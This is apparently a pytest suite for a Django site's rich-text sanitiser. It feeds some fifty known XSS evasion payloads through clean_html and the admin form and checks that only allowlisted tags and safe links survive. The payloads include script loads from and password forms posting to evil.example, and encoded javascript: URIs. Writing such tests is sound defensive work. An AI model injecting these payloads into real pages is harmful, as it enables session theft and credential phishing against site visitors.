"""The rich-text sanitiser (solidarity/sanitize.py) against real XSS payloads,
called directly and through the admin, as an editor's browser would POST."""

from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse

from posts.models import Article
from solidarity.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html
from tests.admin_forms import article_data

# From the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat
# sheet and html5sec.org, plus what a paste from a word processor brings.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("https://evil.example")</script>',
    "<p>ok</p><script>document.cookie</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)">click</p>',
    '<p ONMOUSEOVER="alert(1)">hover</p>',
    '<a href="https://example.org" onfocus="alert(1)" autofocus>x</a>',
    "<body onload=alert(1)>",
    '<details open ontoggle="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">'
    "x</a>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<embed src="https://evil.example/x.swf">',
    '<object data="javascript:alert(1)"></object>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://example.org" target="_blank">tabnabbing</a>',
    '<div id="x" class="evil"><span data-x="1">wrapped</span></div>',
    "<template><script>alert(1)</script></template>",
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://example.org/\x00javascript:alert(1)">nul</a>',
]

SAFE_SCHEMES = {"http", "https", "mailto"}


class Inspector(HTMLParser):
    """Collects every tag and attribute in a piece of HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def assert_harmless(html):
    """Only allowlisted tags and attributes, and only web or mail links."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert set(inspector.tags) <= ALLOWED_TAGS, html
    for tag, name, value in inspector.attributes:
        if name == "rel":
            assert value == "noopener noreferrer nofollow"
            continue
        assert name in ALLOWED_ATTRIBUTES.get(tag, ()), html
        if name == "href":
            scheme = urlsplit(unescape(value).strip()).scheme.lower()
            assert scheme in SAFE_SCHEMES, html
    lowered = unescape(html).lower()
    for needle in ("<script", "<iframe", "<style", "<svg", "<math"):
        assert needle not in lowered.replace("&lt;", ""), html


@pytest.mark.parametrize(
    "raw",
    [
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<p onclick="alert(1)">x</p>',
        "<svg onload=alert(1)>",
        '<a href="data:text/html,x">x</a>',
    ],
)
def test_the_check_itself_catches_raw_payloads(raw):
    """Guards against a vacuous assert_harmless."""
    with pytest.raises(AssertionError):
        assert_harmless(raw)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_made_harmless(payload):
    assert_harmless(clean_html(payload))


def test_allowed_formatting_survives():
    html = (
        "<h2>Head</h2><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> "
        '<a href="https://example.org/x?a=1&amp;b=2">link</a> '
        '<a href="mailto:union@example.org">mail</a></p>'
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>'
        "<blockquote><p>quote</p></blockquote><hr>"
    )
    cleaned = clean_html(html)
    for part in (
        "<h2>Head</h2>",
        "<strong>b</strong>",
        "<em>i</em>",
        'href="https://example.org/x?a=1&amp;b=2"',
        'href="mailto:union@example.org"',
        '<ol start="3">',
        "<blockquote><p>quote</p></blockquote>",
    ):
        assert part in cleaned


@pytest.mark.django_db
def test_payloads_posted_through_the_admin_are_stored_harmless(editor_client):
    """The admin form is the path editors use; what reaches the database
    (and so the public page, which marks the body safe) is clean."""
    add = reverse("admin:posts_article_add")
    for n, payload in enumerate(PAYLOADS):
        response = editor_client.post(
            add, article_data(title=f"Payload {n}", slug=f"payload-{n}", body=payload)
        )
        if "\x00" in payload:
            # Django's forms refuse NUL characters: a form error, not a 500.
            assert response.status_code == 200
            assert response.context["adminform"].form.errors["body"]
        else:
            assert response.status_code == 302, payload
    stored = dict(Article.objects.values_list("slug", "body"))
    assert len(stored) == len([p for p in PAYLOADS if "\x00" not in p])
    for body in stored.values():
        assert_harmless(body)


@pytest.mark.django_db
def test_plain_text_fields_are_escaped_on_the_public_page(editor_client, client):
    """Titles, summaries and bylines are not rich text: they are escaped."""
    payload = '<script>alert(1)</script><img src=x onerror="alert(1)">'
    editor_client.post(
        reverse("admin:posts_article_add"),
        article_data(title=payload, slug="escaped", summary=payload, byline=payload),
    )
    page = client.get(Article.objects.get(slug="escaped").get_absolute_url()).text
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
